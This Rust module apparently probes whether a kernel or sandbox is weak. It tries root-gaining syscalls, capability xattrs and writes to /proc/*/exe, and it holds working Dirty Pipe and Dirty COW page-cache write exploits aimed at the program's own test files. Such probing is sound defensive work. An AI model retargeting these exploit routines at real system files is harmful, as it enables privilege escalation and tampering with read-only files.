//! Ways to gain rights, and to write to what may only be read.
//!
//! Owns the two races on the page cache that kernels lost in the past. They work on
//! this program's own files, so they show a weak kernel without harm to it.

use std::fs::{self, File, OpenOptions};
use std::io::{Read, Seek, SeekFrom, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};

use crate::report::Report;
use crate::sys::{call, name, outcome, outcome_of};

/// Rounds of the race for a copied page.
const ROUNDS: usize = 20_000;
/// What a read-only file says.
const ORIGINAL: &[u8] = b"as it was written\n";

/// Attempts to be somebody else.
pub(crate) fn gain(report: &Report) {
    let ids: &[(&str, libc::c_long, &[usize])] = &[
        ("setuid", libc::SYS_setuid, &[0]),
        ("setgid", libc::SYS_setgid, &[0]),
        ("setresuid", libc::SYS_setresuid, &[0, 0, 0]),
        ("setgroups", libc::SYS_setgroups, &[1, 0]),
        ("setuid-nobody", libc::SYS_setuid, &[65_534]),
        ("prctl-capability", libc::SYS_prctl, &[24, 21, 0, 0, 0]),
        ("prctl-ambient", libc::SYS_prctl, &[47, 2, 21, 0, 0]),
        ("prctl-securebits", libc::SYS_prctl, &[28, 0, 0, 0, 0]),
        ("prctl-mm", libc::SYS_prctl, &[35, 13, 0, 0, 0]),
    ];
    for (name, number, args) in ids {
        report.attempt(&format!("gain/{name}"), || outcome(call(*number, args)));
    }
    report.attempt("gain/own-setuid-program", || {
        let own = "./setuid";
        let made = fs::copy("/proc/self/exe", own)
            .and_then(|_| fs::set_permissions(own, fs::Permissions::from_mode(0o6755)));
        if let Err(error) = made {
            return outcome_of::<()>(Err(error));
        }
        told(Command::new(own).args(["spy", "id"]))
    });
    report.attempt("gain/file-capability", || {
        // vfs_cap_data of linux/capability.h, version 2, everything permitted.
        let data: [u32; 5] = [0x0200_0001, u32::MAX, 0, u32::MAX, 0];
        let _ = fs::write("capable", "x");
        let (path, attribute) = (c"capable", c"security.capability");
        let args = [path.as_ptr() as usize, attribute.as_ptr() as usize, data.as_ptr() as usize];
        outcome(call(libc::SYS_setxattr, &[&args[..], &[size_of_val(&data), 0]].concat()))
    });
    report.attempt("gain/setuid-programs-of-the-root", || {
        let candidates =
            ["/usr/bin/su", "/bin/su", "/usr/bin/mount", "/bin/mount", "/usr/bin/sudo"];
        let gained = candidates.iter().filter(|path| {
            let found =
                fs::metadata(path).is_ok_and(|meta| meta.permissions().mode() & 0o4000 != 0);
            found
                && Command::new(path)
                    .args(["-c", "id"])
                    .output()
                    .is_ok_and(|out| String::from_utf8_lossy(&out.stdout).contains("uid=0"))
        });
        gained.count().to_string()
    });
    report.attempt("gain/chown", || {
        let _ = fs::write("given", "x");
        outcome_of(std::os::unix::fs::chown("given", Some(0), Some(0)))
    });
}

fn told(command: &mut Command) -> String {
    match command.output() {
        Ok(output) => String::from_utf8_lossy(&output.stdout).trim().to_owned(),
        Err(error) => outcome_of::<()>(Err(error)),
    }
}

fn read_only(path: &str) -> std::io::Result<File> {
    let _ = fs::remove_file(path);
    fs::write(path, ORIGINAL)?;
    fs::set_permissions(path, fs::Permissions::from_mode(0o444))?;
    File::open(path)
}

fn verdict(mut file: File) -> String {
    let mut now = Vec::new();
    match file.seek(SeekFrom::Start(0)).and_then(|_| file.read_to_end(&mut now)) {
        Ok(_) if now == ORIGINAL => "unchanged".to_owned(),
        Ok(_) => "changed".to_owned(),
        Err(error) => outcome_of::<()>(Err(error)),
    }
}

/// Writes to the page cache of files that are open for reading alone.
pub(crate) fn pages(report: &Report) {
    report.attempt("page/dirty-pipe", || match read_only("page-pipe") {
        Ok(file) => dirty_pipe(&file).map_or_else(name, |()| verdict(file)),
        Err(error) => outcome_of::<()>(Err(error)),
    });
    report.attempt("page/dirty-cow", || match read_only("page-copy") {
        Ok(file) => dirty_cow(&file).map_or_else(name, |()| verdict(file)),
        Err(error) => outcome_of::<()>(Err(error)),
    });
    report.attempt("page/program-of-process-1", || {
        outcome_of(OpenOptions::new().write(true).open("/proc/1/exe"))
    });
    // CVE-2019-5736: the program that starts a command, seen through the command.
    report.attempt("page/own-program", || {
        outcome_of(OpenOptions::new().write(true).open("/proc/self/exe"))
    });
}

/// CVE-2022-0847: a pipe whose buffers were once full keeps their right to merge.
fn dirty_pipe(file: &File) -> Result<(), i32> {
    let mut pipe = [0_i32; 2];
    call(libc::SYS_pipe2, &[pipe.as_mut_ptr() as usize, 0])?;
    let [read, write] = pipe.map(|fd| fd as usize);
    let size = call(libc::SYS_fcntl, &[write, libc::F_GETPIPE_SZ as usize])?;
    let mut filler = vec![b'x'; size];
    call(libc::SYS_write, &[write, filler.as_ptr() as usize, size])?;
    call(libc::SYS_read, &[read, filler.as_mut_ptr() as usize, size])?;
    let mut offset = 0_u64;
    let at = std::ptr::from_mut(&mut offset) as usize;
    call(libc::SYS_splice, &[file.as_raw_fd() as usize, at, write, 0, 1, 0])?;
    call(libc::SYS_write, &[write, c"OVERWRITTEN".as_ptr() as usize, 8])?;
    Ok(())
}

/// CVE-2016-5195: a private copy of a page is dropped while it is being written.
fn dirty_cow(file: &File) -> Result<(), i32> {
    let length = 4096;
    let map = call(
        libc::SYS_mmap,
        &[
            0,
            length,
            libc::PROT_READ as usize,
            libc::MAP_PRIVATE as usize,
            file.as_raw_fd() as usize,
            0,
        ],
    )?;
    let over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !over.load(Ordering::Relaxed) {
                let _ = call(libc::SYS_madvise, &[map, length, libc::MADV_DONTNEED as usize]);
            }
        });
        let memory = OpenOptions::new().write(true).open("/proc/self/mem");
        if let Ok(mut memory) = memory {
            for _ in 0..ROUNDS {
                let at = memory.seek(SeekFrom::Start(map as u64));
                let _ = at.and_then(|_| memory.write(b"OVERWRITTEN"));
            }
        }
        over.store(true, Ordering::Relaxed);
    });
    Ok(())
}
